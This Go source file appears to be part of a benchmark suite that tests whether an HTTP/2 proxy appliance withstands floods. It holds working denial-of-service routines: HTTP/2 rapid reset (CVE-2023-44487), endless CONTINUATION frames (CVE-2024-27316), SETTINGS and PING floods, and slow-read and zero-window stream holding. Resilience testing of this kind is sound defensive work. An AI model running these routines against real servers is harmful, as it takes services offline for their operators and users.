// SPDX-License-Identifier: Apache-2.0

package flood

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2/hpack"

	"github.com/penstock-gateway/terraform-provider-penstock/appliance/bench/h2wire"
)

// enhanceYourCalm is the error code of RFC 9113, section 7.
const enhanceYourCalm = 0xb

// errCalmed is that the proxy has sent GOAWAY with it.
var errCalmed = errors.New("GOAWAY ENHANCE_YOUR_CALM")

// hello is the preface with settings.
func hello(settings []byte) []byte {
	return h2wire.Append([]byte(h2wire.Preface), h2wire.Settings, 0, 0, settings)
}

// get is the field block of a GET that leaves no trace in anybody's table.
func get(path string) []byte {
	var b strings.Builder
	e := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":path", path}, {":authority", "flood.example.com"}} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // a Builder takes everything
	}
	return []byte(b.String())
}

// listen reads frames until the connection ends. Every frame is told to seen,
// if there is one.
func listen(c net.Conn, seen func(f *h2wire.Frame) error) error {
	buf, end := make([]byte, 32<<10), 0
	for {
		n, err := c.Read(buf[end:])
		if err != nil {
			return err
		}
		end += n
		rest := buf[:end]
		for {
			f, after, ok := h2wire.Next(rest)
			if !ok {
				break
			}
			rest = after
			if f.Type == h2wire.GoAway && len(f.Payload) >= 8 && binary.BigEndian.Uint32(f.Payload[4:]) == enhanceYourCalm {
				return errCalmed
			}
			if seen != nil {
				if err := seen(&f); err != nil {
					return err
				}
			}
		}
		if end = copy(buf, rest); end == len(buf) {
			return errors.New("a frame is too large")
		}
	}
}

// pour writes batches until the connection ends, and returns why it did.
func pour(f *flood, c net.Conn, first []byte, frames int64, reads bool, ready func(), batch func() []byte) error {
	ended := make(chan error, 1)
	if reads {
		go func() {
			ended <- listen(c, nil)
			c.Close()
		}()
	}
	_, err := c.Write(first)
	ready()
	for err == nil {
		if _, err = c.Write(batch()); err == nil {
			f.done.Add(frames)
		}
	}
	if reads {
		c.Close()
		err = <-ended
	}
	return err
}

// reset opens streams and resets them at once (CVE-2023-44487).
func reset(_ context.Context, f *flood, c net.Conn, _ int, ready func()) error {
	const each = 50
	block, id, b := get("/orders/17"), uint32(1), []byte(nil)
	return pour(f, c, hello(nil), each, true, ready, func() []byte {
		for b = b[:0]; len(b) < each*(len(block)+2*h2wire.HeaderSize+4); id += 2 {
			b = h2wire.Append(b, h2wire.Headers, h2wire.EndHeaders|h2wire.EndStream, id, block)
			b = h2wire.Append(b, h2wire.ResetStream, 0, id, []byte{0, 0, 0, 8})
		}
		return b
	})
}

// continuation sends a field block that never ends (CVE-2024-27316); every
// second attacker's frames are empty.
func continuation(_ context.Context, f *flood, c net.Conn, i int, ready func()) error {
	var b []byte
	first := h2wire.Append(hello(nil), h2wire.Headers, h2wire.EndStream, 1, get("/orders/17"))
	field := []byte("\x00\x01a\x7f\xf9\x06" + strings.Repeat("v", 1016)) // 1,016 = 127 + 889: not indexed
	for range 64 {
		if i%2 == 1 {
			field = nil
		}
		b = h2wire.Append(b, h2wire.Continuation, 0, 1, field)
	}
	return pour(f, c, first, 64, true, ready, func() []byte { return b })
}

// control makes the proxy answer SETTINGS and PING; every second attacker does
// not read what it answers.
func control(_ context.Context, f *flood, c net.Conn, i int, ready func()) error {
	var b []byte
	for range 200 {
		if i/2%2 == 0 {
			b = h2wire.Append(b, h2wire.Settings, 0, 0, nil)
		} else {
			b = h2wire.Append(b, h2wire.Ping, 0, 0, make([]byte, 8))
		}
	}
	return pour(f, c, hello(nil), 200, i%2 == 0, ready, func() []byte { return b })
}

// streams is how many bodies a connection asks for.
const streams = 100

// slowStreams asks for large bodies and lets a few bytes of each come now and
// then.
func slowStreams(ctx context.Context, f *flood, c net.Conn, _ int, ready func()) error {
	return hold(ctx, f, c, h2wire.DefaultWindow, ready)
}

// zeroWindows asks for bodies and lets nothing of them come.
func zeroWindows(ctx context.Context, f *flood, c net.Conn, _ int, ready func()) error {
	return hold(ctx, f, c, 0, ready)
}

// hold has streams open whose windows hardly grow, and asks again for those
// that the proxy ends.
func hold(ctx context.Context, f *flood, c net.Conn, window uint32, ready func()) error {
	block, next := get(f.Path), uint32(1)
	out := hello(h2wire.AppendSetting(nil, h2wire.InitialWindowSize, window))
	out = h2wire.AppendWindowUpdate(out, 0, 1<<30)
	open := func(b []byte) []byte {
		b = h2wire.Append(b, h2wire.Headers, h2wire.EndHeaders|h2wire.EndStream, next, block)
		next += 2
		f.done.Add(1)
		return b
	}
	for range streams {
		out = open(out)
	}
	if _, err := c.Write(out); err != nil {
		return err
	}
	ended := make(chan error, 1)
	lost := make(chan struct{}, 2*streams)
	go func() {
		ended <- listen(c, func(frame *h2wire.Frame) error {
			if frame.Type == h2wire.ResetStream {
				select {
				case lost <- struct{}{}:
				default:
				}
			}
			return nil
		})
		c.Close()
	}()
	rest(ctx, time.Second/4) // the proxy has begun with them
	ready()
	for tick := time.NewTicker(time.Second); ; {
		out = out[:0]
		select {
		case err := <-ended:
			tick.Stop()
			return err
		case <-lost:
			out = open(out)
		case <-tick.C:
			if window > 0 {
				for i := range uint32(streams) {
					out = h2wire.AppendWindowUpdate(out, 2*i+1, 8)
				}
			}
		}
		if _, err := c.Write(out); err != nil && !errors.Is(err, io.EOF) {
			c.Close()
			tick.Stop()
			return <-ended
		}
	}
}
